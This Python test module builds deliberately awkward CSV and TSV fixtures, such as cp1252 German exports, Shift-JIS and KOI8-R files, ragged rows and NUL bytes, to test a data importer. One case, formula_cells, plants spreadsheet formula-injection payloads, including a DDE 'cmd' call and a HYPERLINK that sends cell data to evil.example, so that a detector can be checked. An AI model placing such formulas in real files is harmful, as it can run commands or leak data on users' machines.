"""Tables as offices send them."""

from __future__ import annotations

from pathlib import Path
from random import Random

from tests.trainer.data.nasty import Nasty, case, csv_text, pairs, put

SIGNATURE = (
    "\n\nMit freundlichen Grüßen\nKundendienst Müller & Söhne\n\nDiese E-Mail kann vertrauliche Informationen "
    "enthalten. Sollten Sie nicht der richtige Adressat sein, löschen Sie bitte diese Nachricht."
)
CLOSED = (
    "Sehr geehrte Damen und Herren, wir möchten Sie darauf hinweisen, dass unser Geschäft am {day}. {month} wegen "
    "Inventur geschlossen bleibt. Ab dem folgenden Werktag sind wir wieder wie gewohnt für Sie da."
)
MONTHS = ("Januar", "Februar", "März", "April", "Mai", "Juni", "Juli", "August", "September", "Oktober", "November")


@case
def business_csv(folder: Path) -> Nasty:
    """The customer's own kind of file: German Excel, mails with signatures, 300 circulars, a totals row."""
    rng = Random(5)
    rows = []
    for n in range(300):
        closed = CLOSED.format(day=rng.randrange(1, 29), month=rng.choice(MONTHS))
        rows.append([f"kunde{n}@beispiel-versand.de", "Betriebsferien", closed, "", "007", "1.234,50"])
    for n, (asked, said) in enumerate(pairs(250)):
        mail = asked if n % 9 else f"kontakt.{n}@firma-nord.de"  # the address has slipped into the text column
        who = f"person.{n}@web-post.de" if n % 9 else asked
        rows.append([who, f"Anfrage {n}", mail, said + SIGNATURE, f"{n:05d}", f"{n},00"])
    rng.shuffle(rows)
    rows.append(["Summe", "", "", "", "550", "98.765,00"])
    header = ["Absender", "Betreff", "Nachricht", "Antwort", "Kd-Nr.", "Betrag (€)"]
    path = put(folder / "Anfragen Export.csv", csv_text([header, *rows], ";", "\r\n"), "cp1252")
    return Nasty(
        path,
        rows=551,
        encoding=("cp1252", "windows-1252"),
        rules=("near_duplicates", "pii_email", "boilerplate"),
        values=((1, "Kd-Nr.", rows[0][4]), (100, "Kd-Nr.", rows[99][4]), (1, "Betrag (€)", rows[0][5])),
        whole=tuple(dict(zip(header, row, strict=True)) for row in rows),
    )


@case
def excel_sep_line(folder: Path) -> Nasty:
    rows = pairs(40)
    text = "sep=;\r\n" + csv_text([("Frage", "Antwort"), *rows], ";", "\r\n")
    return Nasty(put(folder / "export.csv", text, "utf-8-sig"), rows=40, whole=_whole(("Frage", "Antwort"), rows))


@case
def utf16_tsv(folder: Path) -> Nasty:
    rows = [(a + " – ä ß 漢", b) for a, b in pairs(40)]
    path = put(folder / "daten.tsv", csv_text([("question", "answer"), *rows], "\t", "\r\n"), "utf-16")
    return Nasty(path, rows=40, encoding=("utf-16", "utf_16"), whole=_whole(("question", "answer"), rows))


def _encoded(folder: Path, encoding: str, said: tuple[str, ...], sentences: list[str], name: str = "rows.csv") -> Nasty:
    rows = [(f"{s} {n}", sentences[(n * 7 + 3) % len(sentences)]) for n, s in enumerate(sentences * 6)]
    path = put(folder / name, csv_text([("question", "answer"), *rows]), encoding)
    return Nasty(path, rows=len(rows), encoding=said, whole=_whole(("question", "answer"), rows))


@case
def shift_jis(folder: Path) -> Nasty:
    sentences = [
        "注文した荷物がまだ届いていません。配送状況を教えてください。",
        "返金の手続きはどのくらい時間がかかりますか。",
        "パスワードを忘れてしまったので再設定したいです。",
        "届いた商品の色が写真と違っていました。交換できますか。",
        "請求書の宛名を会社名に変更していただけますか。",
        "お店の営業時間は何時から何時までですか。",
    ]
    return _encoded(folder, "cp932", ("shift_jis", "shift-jis", "cp932"), sentences)


@case
def big5(folder: Path) -> Nasty:
    sentences = [
        "請問我的包裹什麼時候會送到,已經等了一個星期。",
        "我想要退貨,但是找不到退款的申請表格。",
        "登入帳戶的時候一直顯示密碼錯誤。",
        "發票上的公司名稱寫錯了,可以重新開立嗎?",
        "這個產品還有其他顏色可以選擇嗎?",
        "謝謝你們的服務,收到商品後非常滿意。",
    ]
    return _encoded(folder, "big5", ("big5", "cp950"), sentences)


@case
def euc_kr(folder: Path) -> Nasty:
    sentences = [
        "주문한 상품이 아직 도착하지 않았습니다. 배송 상태를 알려 주세요.",
        "환불을 신청하려면 어떻게 해야 하나요?",
        "비밀번호를 잊어버려서 로그인할 수 없습니다.",
        "받은 물건의 색상이 사진과 다릅니다. 교환 가능한가요?",
        "영수증에 회사 이름을 추가해 주실 수 있나요?",
        "친절하게 도와주셔서 정말 감사합니다.",
    ]
    return _encoded(folder, "euc_kr", ("euc_kr", "euc-kr", "cp949"), sentences)


@case
def cp1250_czech(folder: Path) -> Nasty:
    sentences = [
        "Dobrý den, kdy prosím dorazí moje zásilka? Čekám už více než týden.",
        "Žluťoučký kůň v katalogu měl jinou barvu než ten, který přišel.",
        "Chtěl bych vrátit peníze za poškozený přístroj, děkuji.",
        "Nemohu se přihlásit, heslo prý není správné.",
        "Můžete změnit příjemce na účtu na jméno naší firmy?",
        "Děkujeme, že jste náš problém vyřešili tak rychle.",
    ]
    return _encoded(folder, "cp1250", ("cp1250", "windows-1250", "iso8859_2", "iso-8859-2"), sentences)


@case
def koi8_r(folder: Path) -> Nasty:
    sentences = [
        "Здравствуйте, когда придёт моя посылка? Я жду уже больше недели.",
        "Хочу вернуть деньги за повреждённый товар, подскажите, как это сделать.",
        "Не могу войти в личный кабинет, пароль не подходит.",
        "Можно ли изменить получателя в счёте на название нашей фирмы?",
        "Цвет оказался другим, чем на фотографии. Возможен ли обмен?",
        "Спасибо, что так быстро решили нашу проблему.",
    ]
    return _encoded(folder, "koi8-r", ("koi8",), sentences)


@case
def latin1_french(folder: Path) -> Nasty:
    sentences = [
        "Où est mon colis ? Je l'attends déjà depuis une semaine.",
        "Le réfrigérateur est arrivé abîmé, pourriez-vous me rembourser ?",
        "Je n'arrive pas à me connecter, le mot de passe a expiré.",
        "Ça m'étonne : la couleur reçue n'est pas celle commandée.",
        "Merci d'avoir réglé ce problème si rapidement, à bientôt.",
        "Pourriez-vous corriger le nom de la société sur la facture d'été ?",
    ]
    return _encoded(folder, "latin-1", ("latin", "8859", "1252"), sentences)


@case
def no_header(folder: Path) -> Nasty:
    rows = [(a, b) for a, b in pairs(60)]
    return Nasty(put(folder / "chat.csv", csv_text(rows)), rows=60)


@case
def double_header_names(folder: Path) -> Nasty:
    path = put(folder / "twice.csv", csv_text([("text", "text", "label"), *[(a, b, "x") for a, b in pairs(30)]]))
    return Nasty(path, outcome="either", says=("text",))


@case
def lines_before_the_header(folder: Path) -> Nasty:
    head = "Report: all tickets\nCreated: 2024-05-02 10:33\n\n"
    rows = pairs(50)
    return Nasty(put(folder / "report.csv", head + csv_text([("question", "answer"), *rows])), outcome="either")


@case
def ragged_rows(folder: Path) -> Nasty:
    good = pairs(40)
    rows = [("question", "answer"), *good[:20], ("too", "many", "fields"), *good[20:], ("lonely",)]
    return Nasty(put(folder / "ragged.csv", csv_text(rows)), rules=("ragged_rows",), says=("22", "3 fields"))


@case
def unclosed_quote(folder: Path) -> Nasty:
    lines = csv_text([("question", "answer"), *[(a, "it is done") for a, _ in pairs(200)]]).splitlines()
    lines[50] = '"' + lines[50].lstrip('"')[:40].replace(",", "") + ",it is done"
    return Nasty(put(folder / "quote.csv", "\n".join(lines) + "\n"), rules=("stray_quote",), says=("51",))


@case
def nul_bytes_csv(folder: Path) -> Nasty:
    rows = [(a[:20] + ("\0" if n % 10 == 0 else "") + a[20:], b) for n, (a, b) in enumerate(pairs(50))]
    path = put(folder / "nul.csv", csv_text([("question", "answer"), *rows]))
    return Nasty(path, rules=("hidden_characters",), outcome="either")


@case
def lone_carriage_returns(folder: Path) -> Nasty:
    rows = pairs(40)
    path = put(folder / "oldmac.csv", csv_text([("question", "answer"), *rows], end="\r"))
    return Nasty(path, rows=40, whole=_whole(("question", "answer"), rows))


@case
def mixed_line_ends(folder: Path) -> Nasty:
    rows = pairs(40)
    lines = csv_text([("question", "answer"), *rows]).splitlines()
    text = "".join(line + ("\r\n", "\n")[n % 2] for n, line in enumerate(lines))
    return Nasty(put(folder / "ends.csv", text), rows=40, whole=_whole(("question", "answer"), rows))


@case
def tsv_with_bare_quotes(folder: Path) -> Nasty:
    """Tab-separated text as databases write it: quotes are letters like any other."""
    rows = [(f'the 5" {a}', f'"{b}" he said') for a, b in pairs(30)]
    text = "question\tanswer\n" + "".join(f"{a}\t{b}\n" for a, b in rows)
    return Nasty(put(folder / "inches.tsv", text), rows=30)


@case
def leading_zeros_and_odd_numbers(folder: Path) -> Nasty:
    odd = ["007", "1e5", "0x1F", "TRUE", "nan", "NULL", "None", "-0", "1.10", "١٢٣", " 5 ", "12,5", "1_000", "+3"]
    rows = [(a, odd[n % len(odd)]) for n, (a, _) in enumerate(pairs(56))]
    path = put(folder / "codes.csv", csv_text([("text", "label"), *rows]))
    return Nasty(path, rows=56, whole=_whole(("text", "label"), rows))


@case
def formula_cells(folder: Path) -> Nasty:
    bad = [
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
    ]
    rows = [(bad[n // 10] if n % 10 == 0 else a, b) for n, (a, b) in enumerate(pairs(40))]
    path = put(folder / "formulas.csv", csv_text([("question", "answer"), *rows]))
    return Nasty(path, rows=40, rules=("formula_cells",), whole=_whole(("question", "answer"), rows))


@case
def json_in_cells(folder: Path) -> Nasty:
    import json

    rows = [
        (json.dumps([{"role": "user", "content": a}, {"role": "assistant", "content": b}], ensure_ascii=False), str(n))
        for n, (a, b) in enumerate(pairs(40))
    ]
    path = put(folder / "cells.csv", csv_text([("messages", "id"), *rows]))
    return Nasty(path, rows=40, formats=("messages", "unclear"), whole=_whole(("messages", "id"), rows))


@case
def embedded_newlines(folder: Path) -> Nasty:
    rows = [(a.replace(". ", ".\r\n\r\n"), b.replace(". ", ".\n")) for a, b in pairs(40)]
    path = put(folder / "newlines.csv", csv_text([("question", "answer"), *rows], end="\r\n"))
    return Nasty(path, rows=40, whole=_whole(("question", "answer"), rows))


@case
def header_only(folder: Path) -> Nasty:
    return Nasty(put(folder / "header.csv", "question,answer\r\n"), outcome="refused", says=("0 rows",))


@case
def empty_file(folder: Path) -> Nasty:
    return Nasty(put(folder / "x.jsonl", ""), outcome="refused", says=("x.jsonl", "0 rows", "csv"))


@case
def only_blanks(folder: Path) -> Nasty:
    return Nasty(put(folder / "blank.txt", " \n\t\n\r\n \n"), outcome="refused", says=("0 rows",))


@case
def pipes_and_comments(folder: Path) -> Nasty:
    rows = [(a.replace("|", "/"), b) for a, b in pairs(30)]
    path = put(folder / "pipes.csv", csv_text([("question", "answer"), *rows], "|"))
    return Nasty(path, rows=30, whole=_whole(("question", "answer"), rows))


@case
def ticket_threads(folder: Path) -> Nasty:
    """One mail a row, threads by ticket number, not in order of time."""
    rows = []
    for n, (asked, said) in enumerate(pairs(40)):
        rows.append((f"T-{n:03d}", f"2024-03-{n % 28 + 1:02d} 09:00", "customer", asked))
        rows.append((f"T-{n:03d}", f"2024-03-{n % 28 + 1:02d} 11:30", "agent", said))
    Random(1).shuffle(rows)
    header = ("ticket_id", "created_at", "author", "body")
    return Nasty(put(folder / "threads.csv", csv_text([header, *rows])), rows=80, whole=_whole(header, rows))


def _whole(header: tuple[str, ...], rows: list[tuple[str, ...]]) -> tuple[dict[str, str], ...]:
    return tuple(dict(zip(header, row, strict=True)) for row in rows)
